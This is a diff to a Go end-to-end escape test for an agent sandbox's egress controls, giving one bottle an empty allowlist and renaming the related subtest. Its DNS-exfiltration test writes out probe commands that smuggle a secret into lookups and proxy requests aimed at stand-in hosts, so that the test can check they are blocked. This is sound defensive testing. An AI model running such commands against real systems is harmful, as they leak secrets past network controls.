@@ -46,7 +46,9 @@ const escapeLabel = "io.bottlefile.test.escape"
 // escapeBottlefile declares two bottles on the runtime "local", whose
 // egress network is the test's outside world and whose gateways resolve
 // names with the test's recording DNS server. alpha has an allowlist and a
-// sidecar "web"; beta has no egress block and a sidecar "db". Every
+// sidecar "web"; beta has an empty egress block (a gateway that allows
+// nothing; a bottle without an egress block has no gateway at all, see
+// TestE2EEgressAddRemove) and a sidecar "db". Every
 // workload serves its own name on :8080 (busybox httpd), so a connection
 // that should fail would visibly succeed.
 const escapeBottlefile = `
@@ -73,6 +75,9 @@ agent "beta" {
   runtime = runtime.local
   image   = %[3]q
   command = ["sh", "-c", %[7]q]
+  egress {
+    allow = []
+  }
   sidecar "db" {
     image   = %[3]q
     command = ["sh", "-c", %[8]q]
@@ -134,7 +139,7 @@ func TestEscape(t *testing.T) {
 	t.Run("0_controls", r.controls)
 	t.Run("1_allowed_host_through_proxy", r.allowedThroughProxy)
 	t.Run("2_denied_host_403_and_logged", r.deniedHost)
-	t.Run("2b_no_egress_block_denies_all", r.noEgressBlock)
+	t.Run("2b_empty_allowlist_denies_all", r.emptyAllowlist)
 	t.Run("3_allowed_host_other_port_denied", r.otherPort)
 	t.Run("4_direct_to_outside_fails", r.directOutside)
 	t.Run("5_dns_exfiltration", r.dnsExfiltration)
@@ -634,12 +639,12 @@ func (r *escapeRig) deniedHost(t *testing.T) {
 	}
 }
 
-func (r *escapeRig) noEgressBlock(t *testing.T) {
+func (r *escapeRig) emptyAllowlist(t *testing.T) {
 	res := r.probeAll(t, r.beta.id, []probe{
-		{"beta (no egress block) to the allowed host", viaProxy("http://allowed-host:8080/")},
+		{"beta (empty allowlist) to the allowed host", viaProxy("http://allowed-host:8080/")},
 		{"beta by address", viaProxy(fmt.Sprintf("http://%s:8080/", r.allowedIP))},
 	})
-	want403(t, res, "beta (no egress block) to the allowed host", "allowed-host-content")
+	want403(t, res, "beta (empty allowlist) to the allowed host", "allowed-host-content")
 	want403(t, res, "beta by address", "allowed-host-content")
 }
 
@@ -699,7 +704,7 @@ func (r *escapeRig) dnsExfiltration(t *testing.T) {
 	for _, n := range []string{"proxy request for a denied name", "CONNECT to a denied name", "proxy request for an allowed name's denied port"} {
 		want403(t, res, n, "")
 	}
-	// Also from beta, which has no egress block at all.
+	// Also from beta, whose allowlist is empty.
 	resB := r.probeAll(t, r.beta.id, []probe{
 		{"beta lookup", fmt.Sprintf("timeout 4 nslookup %s-g.exfil.test", secret)},
 		{"beta proxy", viaProxy(fmt.Sprintf("http://%s-h.recorded.test:8080/", secret))},
